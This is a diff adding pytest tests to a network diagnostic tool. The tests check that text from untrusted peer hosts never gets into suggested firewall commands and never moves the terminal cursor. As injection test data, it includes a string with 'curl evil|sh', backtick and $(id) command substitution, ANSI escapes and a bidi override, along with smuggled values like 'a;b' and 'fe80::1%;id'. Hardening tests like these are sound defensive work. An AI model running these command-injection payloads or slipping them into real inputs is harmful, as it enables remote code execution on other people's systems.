@@ -3,20 +3,23 @@
 from __future__ import annotations
 
 import io
+import shlex
 from dataclasses import replace
 
+import pytest
 from rich.console import Console
 
 from shoal.contracts.versions import versions
 from shoal.core.interfaces import Address
-from shoal_tools.doctor import checks_host, checks_network
+from shoal_tools.doctor import checks_host, checks_network, forms
 from shoal_tools.doctor.examine import tournament
-from shoal_tools.doctor.facts import Firewall, Host, Interfaces, Limits
+from shoal_tools.doctor.facts import Chain, Firewall, Host, Interfaces, Limits
 from shoal_tools.doctor.finding import CHECKS, Finding
 from shoal_tools.doctor.judge import judged
 from shoal_tools.doctor.ports import Taken
 from shoal_tools.doctor.show import show
 from shoal_tools.doctor.survey import Attempt, Path, Paths, Reached, Survey
+from shoal_tools.doctor.wire import ANOTHER, NO_ROUTE, UNPROVED
 
 NUM_HOSTS = 4
 
@@ -159,6 +162,76 @@ def test_every_host_meets_every_other_once_in_a_tournament() -> None:
         for pairs in rounds:
             busy = [each.id for pair in pairs for each in pair]
             assert len(busy) == len(set(busy))
+
+
+HOSTILE = "x\x1b[2J; curl evil|sh #`id`$(id)'\"\n\u202e[bold]"
+
+
+def hostile(number: int) -> Host:
+    """A host that has nothing but a stranger's text to say."""
+    ill = host(number)
+    return replace(
+        ill,
+        name=HOSTILE,
+        addresses=(Address(HOSTILE, f"fe80::{number}%{HOSTILE}"),),
+        announced=HOSTILE,
+        interfaces=Interfaces((HOSTILE,), (HOSTILE, "eth9"), {HOSTILE: 7}, (HOSTILE,)),
+        names={HOSTILE: ("127.0.0.1",), f"{HOSTILE}2": ()},
+        versions=replace(ill.versions, torch=HOSTILE, shoal=HOSTILE, python=HOSTILE),
+        firewall=Firewall(
+            ("nft",), tuple(Chain(HOSTILE, HOSTILE, HOSTILE, hook) for hook in ("input", "output"))
+        ),
+        limits=Limits(1, 1, 1, 1),
+        taken=(Taken(7, 7, HOSTILE),),
+    )
+
+
+@pytest.mark.parametrize("tool", ["nft", "iptables", "ufw", "firewall-cmd"])
+@pytest.mark.parametrize("outcome", ["refused", NO_ROUTE, ANOTHER, UNPROVED, ""])
+def test_a_strangers_text_is_in_no_command_and_moves_no_cursor(tool: str, outcome: str) -> None:
+    hosts = [host(0), *map(hostile, range(1, 5))]
+    hosts = [replace(h, firewall=replace(h.firewall, tools=(tool,))) for h in hosts]
+    made = survey(hosts)
+    reached = {
+        id: replace(
+            each,
+            attempts=tuple(replace(a, outcome=outcome, address=HOSTILE) for a in each.attempts),
+            names={HOSTILE: ("127.0.0.1",)},
+        )
+        for id, each in made.reached.items()
+    }
+    paths = (
+        {}
+        if outcome == "" and tool == "nft"
+        else {
+            id: Paths(tuple(replace(p, passes=1300, passes_back=1300) for p in each.paths))
+            for id, each in made.paths.items()
+        }
+    )
+    made = replace(made, reached=reached, paths=paths, rates=dict.fromkeys(made.rates, 1.0))
+    findings = judged(made)
+    assert len(findings) > 10
+    for finding in findings:
+        for part in ("evil", "\x1b", "`", "\n", "$(", "\u202e", "[bold]"):
+            assert part not in finding.mend, finding
+        assert shlex.split(finding.mend), "the quotes are whole"
+    page = io.StringIO()
+    show(Console(file=page, width=300), made, findings, 3.0)
+    printed = page.getvalue()
+    assert all(each.isprintable() or each == "\n" for each in printed)
+    assert "x\\x1b[2J; curl evil" in printed and "[bold]" in printed
+    assert printed.count("\n") < 60 + 5 * len(findings)
+
+
+def test_words_of_commands_keep_to_their_forms() -> None:
+    for form, good, bad in (
+        (forms.address, ["10.0.0.1", "fd00::1", "fe80::1%eth0"], ["", "1.2.3", "fe80::1%;id", "h"]),
+        (forms.interface, ["eth0", "enp3s0f0np0", "eth0.7", "br-0a1b2c3d4e5f"], ["", "-x", "a b"]),
+        (forms.host, ["h0", "node-1.example.org", "10.0.0.1"], ["", "-h", "a;b", "a\nb"]),
+        (forms.version, ["2.13.0+cpu", "3.11"], ["", "1 2", "1;2", "$(id)"]),
+    ):
+        assert [form(each) for each in good] == good
+        assert all(form(each).isupper() for each in bad)
 
 
 def test_what_is_shown_fits_80_columns_and_commands_stay_whole() -> None:
